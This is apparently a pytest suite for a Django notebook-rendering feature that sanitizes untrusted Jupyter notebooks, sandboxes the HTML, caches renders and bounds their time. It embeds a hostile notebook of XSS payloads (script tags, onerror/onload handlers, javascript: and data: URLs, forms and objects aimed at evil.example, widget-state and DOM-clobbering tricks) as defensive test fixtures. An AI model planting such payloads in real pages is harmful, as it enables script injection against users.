"""Notebook rendering: untrusted notebooks become sanitized HTML, served in a sandbox, cached per
version and bounded in time.

Real renders spawn a ~1 s child process, so the hostile notebook is rendered once per module and
most endpoint tests swap the child for a fake that counts its calls."""

import io
import time
import uuid
from dataclasses import dataclass
from html.parser import HTMLParser

import nbformat
import pytest
from django.core.files.storage import default_storage
from django.urls import reverse
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

from apps.projects import rendering, services
from apps.projects.models import NotebookVersion, Project

# --- a hostile notebook -----------------------------------------------------------------------------
# Each payload carries its own marker; a marker inside a script or an attribute would mean that
# payload reached a place where it can run.
MARKDOWN_PAYLOADS = {
    "PWNED_MD_IMG_ONERROR": "<img src=x onerror=\"alert('PWNED_MD_IMG_ONERROR')\">",
    "PWNED_MD_SVG_ONLOAD": '<svg onload="alert(\'PWNED_MD_SVG_ONLOAD\')"><circle r="4"/></svg>',
    "PWNED_MD_SVG_SCRIPT": "<svg><script>alert('PWNED_MD_SVG_SCRIPT')</script></svg>",
    "PWNED_MD_JS_LINK": "[click me](javascript:alert('PWNED_MD_JS_LINK'))",
    "PWNED_MD_JS_ANCHOR": "<a href=\"javascript:alert('PWNED_MD_JS_ANCHOR')\">anchor</a>",
    "PWNED_MD_FORM": '<form action="https://evil.example/PWNED_MD_FORM"><input name="q"><button>go</button></form>',
    "PWNED_MD_SELECT_IFRAME": "<select><iframe srcdoc=\"<script>alert('PWNED_MD_SELECT_IFRAME')</script>\"></iframe></select>",
    "PWNED_MD_OBJECT": '<object data="https://evil.example/PWNED_MD_OBJECT.swf"></object><embed src="https://evil.example/PWNED_MD_OBJECT.swf">',
    "PWNED_MD_SCRIPT": "<script>alert('PWNED_MD_SCRIPT')</script>",
}
HTML_OUTPUT_SCRIPT = "<script>alert('PWNED_HTML_SCRIPT')</script>"
SVG_OUTPUT = (
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(\'PWNED_SVG_ONLOAD\')">'
    "<script>alert('PWNED_SVG_SCRIPT')</script><circle r=\"4\"/></svg>"
)
JAVASCRIPT_OUTPUT = "alert('PWNED_JS_OUTPUT')"
MERMAID_OUTPUT = "graph TD; A-->B</pre><img src=x onerror=alert('PWNED_MERMAID')>"
TITLE_PAYLOAD = "<script>alert('PWNED_TITLE')</script>"
TAG_PAYLOADS = ["<script>alert('PWNED_TAG_SCRIPT')</script>", "x\" onmouseover=\"alert('PWNED_TAG_QUOTE')"]
RAW_PAYLOAD = "<script>alert('PWNED_RAW_CELL')</script>"
MARKERS = [
    *MARKDOWN_PAYLOADS,
    "PWNED_HTML_SCRIPT",
    "PWNED_SVG_ONLOAD",
    "PWNED_SVG_SCRIPT",
    "PWNED_JS_OUTPUT",
    "PWNED_MERMAID",
    "PWNED_TITLE",
    "PWNED_TAG_SCRIPT",
    "PWNED_TAG_QUOTE",
    "PWNED_RAW_CELL",
    "PWNED_IMAGE_FILENAME",
    "PWNED_IMAGE_WIDTH",
    "PWNED_IMAGE_HEIGHT",
    "PWNED_MATHJAX",
    "PWNED_WIDGET",
]
# Widget state is embedded by the template unsanitized and rendered by a CDN-loaded manager.
WIDGET_STATE = {
    "application/vnd.jupyter.widget-state+json": {
        "version_major": 2,
        "version_minor": 0,
        "state": {"w1": {"model_name": "HTMLModel", "state": {"value": "<img src=x onerror=alert('PWNED_WIDGET')>"}}},
    }
}
PANDAS_TABLE = (
    '<table border="1" class="dataframe"><thead><tr style="text-align: right;"><th></th><th>alpha</th></tr></thead>'
    "<tbody><tr><th>0</th><td>0.25</td></tr><tr><th>1</th><td>0.75</td></tr></tbody></table>"
)
TEMPLATE_SCRIPT_HOSTS = ("https://cdnjs.cloudflare.com/",)


def hostile_notebook() -> nbformat.NotebookNode:
    nb = new_notebook(
        metadata={
            "title": TITLE_PAYLOAD,
            "widgets": WIDGET_STATE,
            "kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"},
        }
    )
    markdown = new_markdown_cell(
        "# Results heading\n\nSome *ordinary* prose.\n\n"
        + "\n\n".join(MARKDOWN_PAYLOADS.values())
        + '\n\n<a id="MathJax" href="#">PWNED_MATHJAX</a>\n'
    )
    code = new_code_cell("df", metadata={"tags": TAG_PAYLOADS})
    code.outputs = [
        new_output("execute_result", data={"text/html": HTML_OUTPUT_SCRIPT + PANDAS_TABLE}, execution_count=1),
        new_output("display_data", data={"image/svg+xml": SVG_OUTPUT}),
        new_output("display_data", data={"application/javascript": JAVASCRIPT_OUTPUT}),
        new_output("display_data", data={"text/vnd.mermaid": MERMAID_OUTPUT}),
        new_output(
            "display_data",
            data={"image/png": "iVBORw0KGgo="},
            metadata={
                "filenames": {"image/png": "javascript:alert('PWNED_IMAGE_FILENAME')"},
                "image/png": {"width": "1 onerror=alert('PWNED_IMAGE_WIDTH')"},
                "height": "2 onload=alert('PWNED_IMAGE_HEIGHT')",
            },
        ),
    ]
    code.execution_count = 1
    raw = new_raw_cell(RAW_PAYLOAD, metadata={"raw_mimetype": "text/html"})
    nb.cells = [markdown, code, raw]
    return nb


def unique_notebook(text: str = "Plain notebook") -> nbformat.NotebookNode:
    """A small notebook with content no other test (or earlier run) has: renders and remembered
    failures are keyed by content, and the cache is shared Redis."""
    nb = new_notebook(metadata={"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}})
    nb.cells = [new_markdown_cell(f"# {text}\n\n{uuid.uuid4().hex}"), new_code_cell("1 + 1")]
    return nb


# --- an HTML parser that keeps what matters for script execution -----------------------------------
@dataclass
class Element:
    tag: str
    attrs: list[tuple[str, str]]
    text: str = ""

    def get(self, name: str) -> str | None:
        return next((value for key, value in self.attrs if key == name), None)


class DocumentParser(HTMLParser):
    """Collects every element with its attributes, and the text inside <script> and <title>."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[Element] = []
        self._open: Element | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        element = Element(tag, [(name.lower(), value or "") for name, value in attrs])
        self.elements.append(element)
        if tag in ("script", "title"):
            self._open = element

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append(Element(tag, [(name.lower(), value or "") for name, value in attrs]))

    def handle_endtag(self, tag: str) -> None:
        if self._open is not None and tag == self._open.tag:
            self._open = None

    def handle_data(self, data: str) -> None:
        if self._open is not None:
            self._open.text += data


def parse(html: str) -> list[Element]:
    parser = DocumentParser()
    parser.feed(html)
    parser.close()
    return parser.elements


def csp_directives(header: str) -> dict[str, list[str]]:
    directives: dict[str, list[str]] = {}
    for part in header.split(";"):
        name, *values = part.split()
        directives[name] = values
    return directives


# --- fixtures -------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def hostile_html() -> str:
    """The hostile notebook, rendered once by the same child process the render view uses."""
    return rendering._render_in_child(nbformat.writes(hostile_notebook()).encode())


@pytest.fixture(scope="module")
def hostile_elements(hostile_html: str) -> list[Element]:
    return parse(hostile_html)


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    """Blobs and stored renders in a folder of this test's own."""
    settings.MEDIA_ROOT = str(tmp_path / "media")


@pytest.fixture
def owner_client(client, private_project: Project):
    client.force_login(private_project.created_by)
    return client


@pytest.fixture
def fake_renderer(monkeypatch):
    """Stand in for the child process; `fake_renderer.calls` lists the notebooks it was given."""

    class Fake:
        calls: list[bytes]

        def __init__(self) -> None:
            self.calls = []

        def __call__(self, notebook_bytes: bytes) -> str:
            self.calls.append(notebook_bytes)
            return f"<!doctype html><html><body><h1>Render number {len(self.calls)}</h1></body></html>"

    fake = Fake()
    monkeypatch.setattr(rendering, "_render_in_child", fake)
    return fake


def upload(project: Project, nb: nbformat.NotebookNode, path: str = "analysis.ipynb") -> NotebookVersion:
    content = io.BytesIO(nbformat.writes(nb).encode())
    return services.notebook_upload(project=project, path=path, content=content, uploader=project.created_by).version


def crash(notebook_bytes: bytes) -> str:
    """What `_render_in_child` raises when the child exits non-zero (nbconvert failed)."""
    raise RuntimeError("renderer exited with 1: nbconvert choked")


def stored_files(folder: str) -> list[str]:
    folders, files = default_storage.listdir(folder)
    return [f"{folder}/{name}" for name in files] + [
        path for sub in folders for path in stored_files(f"{folder}/{sub}")
    ]


def render_url(project: Project, version: NotebookVersion) -> str:
    return reverse("projects:notebook-render", kwargs={"slug": project.slug, "version_id": version.pk})


# --- the rendered document of a hostile notebook ----------------------------------------------------
def test_hostile_render_has_no_event_handler_attributes(hostile_elements):
    handlers = [(e.tag, name) for e in hostile_elements for name, _ in e.attrs if name.startswith("on")]

    assert handlers == []


def test_hostile_render_keeps_only_the_templates_own_scripts(hostile_elements):
    scripts = [e for e in hostile_elements if e.tag == "script"]
    foreign = [
        (e.get("src"), e.text[:80])
        for e in scripts
        if not (
            (e.get("src") or "").startswith(TEMPLATE_SCRIPT_HOSTS) or (e.get("src") is None and "PWNED" not in e.text)
        )
    ]

    assert foreign == []
    assert any((e.get("src") or "").startswith(TEMPLATE_SCRIPT_HOSTS) for e in scripts), "template scripts are gone"


@pytest.mark.parametrize("marker", MARKERS)
def test_hostile_payload_never_reaches_a_script_or_attribute(hostile_elements, marker):
    in_scripts = [e.text[:80] for e in hostile_elements if e.tag == "script" and marker in e.text]
    # Cell tags become `celltag_…` class names (escaped, inert); any other attribute is a way in.
    in_attributes = [
        (e.tag, name) for e in hostile_elements for name, value in e.attrs if marker in value and name != "class"
    ]

    assert in_scripts == []
    assert in_attributes == []


def test_hostile_render_has_no_javascript_urls(hostile_elements):
    urls = [
        (e.tag, name, value)
        for e in hostile_elements
        for name, value in e.attrs
        if name in ("href", "src", "action", "formaction", "data", "xlink:href", "srcdoc")
        and value.strip().lower().startswith("javascript:")
    ]

    assert urls == []


@pytest.mark.parametrize("tag", ["iframe", "form", "object", "embed", "svg", "input", "select", "base"])
def test_hostile_render_has_no_embedding_or_form_elements(hostile_elements, tag):
    assert [e.attrs for e in hostile_elements if e.tag == tag] == []


def test_hostile_render_does_not_let_markup_clobber_the_mathjax_global(hostile_elements):
    clobbering = [e.tag for e in hostile_elements if "MathJax" in (e.get("id"), e.get("name"))]

    assert clobbering == []


def test_hostile_title_metadata_is_shown_as_text(hostile_elements):
    titles = [e.text for e in hostile_elements if e.tag == "title"]

    assert titles == [TITLE_PAYLOAD]


def test_image_size_metadata_cannot_add_attributes(hostile_elements):
    images = [e for e in hostile_elements if e.tag == "img" and (e.get("src") or "").startswith("data:image/png")]

    assert len(images) == 1
    assert {name for name, _ in images[0].attrs} <= {"src", "alt", "class", "width", "height"}


def test_markdown_heading_survives_sanitizing(hostile_elements):
    headings = [e for e in hostile_elements if e.tag == "h1"]

    assert headings, "the markdown heading was dropped"
    assert any((e.get("id") or "").startswith("Results-heading") for e in headings)


def test_pandas_table_survives_sanitizing(hostile_html, hostile_elements):
    tables = [e for e in hostile_elements if e.tag == "table"]

    assert len(tables) == 1
    assert "dataframe" in (tables[0].get("class") or "")
    assert "<td>0.75</td>" in hostile_html


# --- the render endpoint and the page that frames it -----------------------------------------------
def test_render_endpoint_serves_the_sanitized_notebook(owner_client, private_project):
    version = upload(private_project, hostile_notebook())

    response = owner_client.get(render_url(private_project, version))

    assert response.status_code == 200
    assert response["Content-Type"] == "text/html; charset=utf-8"
    elements = parse(response.content.decode())
    assert any(e.tag == "h1" for e in elements)
    assert [name for e in elements for name, _ in e.attrs if name.startswith("on")] == []
    assert [e.text[:80] for e in elements if e.tag == "script" and "PWNED" in e.text] == []


def test_render_is_served_in_a_sandbox_without_same_origin(owner_client, private_project, fake_renderer):
    version = upload(private_project, unique_notebook())

    response = owner_client.get(render_url(private_project, version))

    sandbox = csp_directives(response["Content-Security-Policy"])["sandbox"]
    assert response.status_code == 200
    assert "allow-scripts" in sandbox
    assert "allow-same-origin" not in sandbox


def test_render_failure_page_is_sandboxed_too(owner_client, private_project, monkeypatch):
    monkeypatch.setattr(rendering, "_render_in_child", crash)
    version = upload(private_project, unique_notebook())

    response = owner_client.get(render_url(private_project, version))

    sandbox = csp_directives(response["Content-Security-Policy"])["sandbox"]
    assert response.status_code == 422
    assert "allow-scripts" in sandbox
    assert "allow-same-origin" not in sandbox


def test_notebook_page_frames_the_render_in_a_sandbox_without_same_origin(owner_client, private_project):
    version = upload(private_project, unique_notebook())
    page = reverse("projects:notebook", kwargs={"slug": private_project.slug, "path": "analysis.ipynb"})

    response = owner_client.get(page)

    frames = [e for e in parse(response.content.decode()) if e.tag == "iframe"]
    assert response.status_code == 200
    assert len(frames) == 1
    assert frames[0].get("src") == render_url(private_project, version)
    tokens = (frames[0].get("sandbox") or "").split()
    assert "allow-scripts" in tokens
    assert "allow-same-origin" not in tokens


def test_outsider_cannot_fetch_a_private_render(client, private_project, team, fake_renderer):
    version = upload(private_project, unique_notebook())
    client.force_login(team["outsider"])

    response = client.get(render_url(private_project, version))

    assert response.status_code == 404
    assert fake_renderer.calls == []


# --- caching --------------------------------------------------------------------------------------
def test_second_request_serves_the_cached_render(owner_client, private_project, fake_renderer):
    version = upload(private_project, unique_notebook())
    url = render_url(private_project, version)

    first = owner_client.get(url)
    second = owner_client.get(url)

    assert len(fake_renderer.calls) == 1
    assert second.status_code == 200
    assert second.content == first.content


def test_render_is_stored_under_renders(owner_client, private_project, fake_renderer):
    version = upload(private_project, unique_notebook())

    owner_client.get(render_url(private_project, version))

    stored = stored_files("renders")
    assert [path.rsplit("/", 1)[-1] for path in stored] == [f"{version.sha256}.html"]
    with default_storage.open(stored[0], "rb") as file:
        assert b"Render number 1" in file.read()


def test_each_new_version_is_rendered_on_its_own(owner_client, private_project, fake_renderer):
    first = upload(private_project, unique_notebook("First"))
    second = upload(private_project, unique_notebook("Second"))

    owner_client.get(render_url(private_project, first))
    response = owner_client.get(render_url(private_project, second))

    assert len(fake_renderer.calls) == 2
    assert b"Second" in fake_renderer.calls[1]
    assert b"Render number 2" in response.content


# --- bounded in time, failures remembered ---------------------------------------------------------
def test_slow_render_is_stopped_with_a_clear_message(owner_client, private_project, settings):
    settings.REPROLAB_RENDER_TIMEOUT = 0.01
    version = upload(private_project, unique_notebook())

    started = time.monotonic()
    response = owner_client.get(render_url(private_project, version))

    assert time.monotonic() - started < 10
    assert response.status_code == 422
    body = response.content.decode()
    assert "Could not render this notebook" in body
    assert "took longer than 0.01 seconds" in body


def test_render_that_nbconvert_cannot_handle_answers_422(owner_client, private_project, monkeypatch):
    monkeypatch.setattr(rendering, "_render_in_child", crash)
    version = upload(private_project, unique_notebook())

    response = owner_client.get(render_url(private_project, version))

    assert response.status_code == 422
    body = response.content.decode()
    assert "Could not render this notebook" in body
    assert "The renderer could not process this notebook." in body
    assert "nbconvert choked" not in body  # internals stay in the log


def test_render_over_the_memory_cap_answers_422(owner_client, private_project, settings):
    settings.REPROLAB_RENDER_MEMORY_BYTES = 32 * 1024 * 1024  # far below what nbconvert needs
    version = upload(private_project, unique_notebook())

    response = owner_client.get(render_url(private_project, version))

    assert response.status_code == 422
    assert "The renderer could not process this notebook." in response.content.decode()


@pytest.mark.parametrize(
    ("failure", "message"),
    [
        (rendering.subprocess.TimeoutExpired(cmd="render", timeout=0.01), "took longer than"),
        (RuntimeError("renderer exited with 1"), "could not process"),
    ],
    ids=["timeout", "crash"],
)
def test_failed_render_is_remembered_and_not_retried(owner_client, private_project, monkeypatch, failure, message):
    calls: list[bytes] = []

    def failing(notebook_bytes: bytes) -> str:
        calls.append(notebook_bytes)
        raise failure

    monkeypatch.setattr(rendering, "_render_in_child", failing)
    version = upload(private_project, unique_notebook())
    url = render_url(private_project, version)

    owner_client.get(url)
    second = owner_client.get(url)

    assert len(calls) == 1
    assert second.status_code == 422
    assert message in second.content.decode()


def test_fresh_renders_are_rate_limited_per_user_but_cached_ones_are_not(
    owner_client, private_project, fake_renderer, settings, monkeypatch
):
    settings.REPROLAB_RENDERS_PER_MINUTE = 1
    monkeypatch.setattr(rendering.time, "time", lambda: 1_800_000_000.0)  # one fixed window
    first = upload(private_project, unique_notebook("first"))
    second = upload(private_project, unique_notebook("second"), path="second.ipynb")

    assert owner_client.get(render_url(private_project, first)).status_code == 200
    limited = owner_client.get(render_url(private_project, second))
    assert limited.status_code == 429
    assert limited["Retry-After"] == "60"
    assert b"Too many notebooks rendered" in limited.content
    assert len(fake_renderer.calls) == 1
    # The already rendered version is still served: it costs no render.
    assert owner_client.get(render_url(private_project, first)).status_code == 200


# --- images in markdown: cell attachments and data URLs ---------------------------------------------
# A 1x1 PNG and GIF; an SVG that would run script if it were ever shown as a document.
PNG_1PX = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
GIF_1PX = "R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw=="
SVG_B64 = "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4="
DATA_URL_PAYLOADS = {
    "svg-img": f'<img alt="svg-img" src="data:image/svg+xml;base64,{SVG_B64}">',
    "svg-markdown": f"![svg-markdown](data:image/svg+xml;base64,{SVG_B64})",
    "html-img": '<img alt="html-img" src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    "html-link": '<a href="data:text/html,<script>alert(1)</script>">html-link</a>',
    "html-spaced": '<img alt="html-spaced" src=" da&#9;ta:text/html,<script>alert(1)</script>">',
    "png-as-link": f'<a href="data:image/png;base64,{PNG_1PX}">png-as-link</a>',
    "js-img": '<img alt="js-img" src="javascript:alert(\'x\')">',
}


def attachments_notebook() -> nbformat.NotebookNode:
    nb = new_notebook(metadata={"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}})
    pasted = new_markdown_cell("Pasted: ![pasted](attachment:image.png) and ![animated](attachment:anim.gif)")
    pasted.attachments = {"image.png": {"image/png": PNG_1PX}, "anim.gif": {"image/gif": GIF_1PX}}
    # nbconvert prefers SVG when both exist; the PNG beside it must be shown instead.
    both = new_markdown_cell("Both: ![both](attachment:chart)")
    both.attachments = {"chart": {"image/svg+xml": SVG_B64, "image/png": PNG_1PX}}
    svg_only = new_markdown_cell("Vector: ![vector](attachment:vector.svg)")
    svg_only.attachments = {"vector.svg": {"image/svg+xml": SVG_B64}}
    missing = new_markdown_cell("Lost: ![lost](attachment:lost.png)\n\nText after the lost image.")
    inline = new_markdown_cell(
        f"Inline: ![inline](data:image/png;base64,{PNG_1PX})\n\n" + "\n\n".join(DATA_URL_PAYLOADS.values())
    )
    nb.cells = [pasted, both, svg_only, missing, inline, new_markdown_cell("# The last cell")]
    return nb


@pytest.fixture(scope="module")
def attachments_html() -> str:
    return rendering._render_in_child(nbformat.writes(attachments_notebook()).encode())


@pytest.fixture(scope="module")
def attachment_images(attachments_html: str) -> dict[str, str]:
    """alt text -> src of every image in the render."""
    return {e.get("alt") or "": e.get("src") or "" for e in parse(attachments_html) if e.tag == "img"}


def test_pasted_png_attachment_appears_as_a_data_url(attachment_images):
    assert attachment_images["pasted"] == f"data:image/png;base64,{PNG_1PX}"


def test_gif_attachment_appears_as_a_data_url(attachment_images):
    assert attachment_images["animated"] == f"data:image/gif;base64,{GIF_1PX}"


def test_attachment_with_svg_and_png_shows_the_png(attachment_images):
    assert attachment_images["both"] == f"data:image/png;base64,{PNG_1PX}"


def test_inline_png_data_url_in_markdown_appears(attachment_images):
    assert attachment_images["inline"] == f"data:image/png;base64,{PNG_1PX}"


@pytest.mark.parametrize("alt", ["svg-img", "svg-markdown", "html-img", "html-spaced", "js-img"])
def test_non_raster_image_urls_are_dropped(attachment_images, alt):
    assert attachment_images.get(alt, "") in ("", "#harmful-link")


def test_no_data_url_other_than_a_raster_image_survives_anywhere(attachments_html):
    urls = [
        (e.tag, name, value)
        for e in parse(attachments_html)
        for name, value in e.attrs
        if "data:" in value.lower() and not (e.tag == "img" and name == "src" and value.startswith("data:image/"))
    ]
    svg_sources = [e.get("alt") for e in parse(attachments_html) if "svg" in (e.get("src") or "").lower()]

    assert urls == []
    assert svg_sources == []


@pytest.mark.parametrize("text", ["html-link", "png-as-link"])
def test_data_url_links_lose_their_href(attachments_html, text):
    links = [e for e in parse(attachments_html) if e.tag == "a" and (e.get("href") or "").lower().startswith("data:")]

    assert links == []


def test_svg_only_attachment_is_a_placeholder_not_an_image(attachments_html, attachment_images):
    assert "vector" not in attachment_images
    assert "attachment “vector.svg” is not a PNG, JPEG, GIF or WebP image" in attachments_html


def test_missing_attachment_is_a_visible_placeholder_and_the_rest_renders(attachments_html, attachment_images):
    placeholders = [e for e in parse(attachments_html) if rendering_placeholder(e)]

    assert "lost" not in attachment_images
    assert len(placeholders) == 2  # lost.png and vector.svg
    assert "Image not shown: attachment “lost.png” is not in this notebook" in attachments_html
    assert "Text after the lost image." in attachments_html
    assert "The last cell" in attachments_html
    assert ".reprolab-missing-attachment{" in attachments_html  # styled, so it stands out


def rendering_placeholder(element: Element) -> bool:
    return element.tag == "span" and "reprolab-missing-attachment" in (element.get("class") or "").split()


def test_notebook_with_a_missing_attachment_is_served_not_refused(owner_client, private_project):
    nb = unique_notebook()
    nb.cells.append(new_markdown_cell("![gone](attachment:gone.png)"))
    version = upload(private_project, nb)

    response = owner_client.get(render_url(private_project, version))

    assert response.status_code == 200
    assert "attachment “gone.png” is not in this notebook" in response.content.decode()
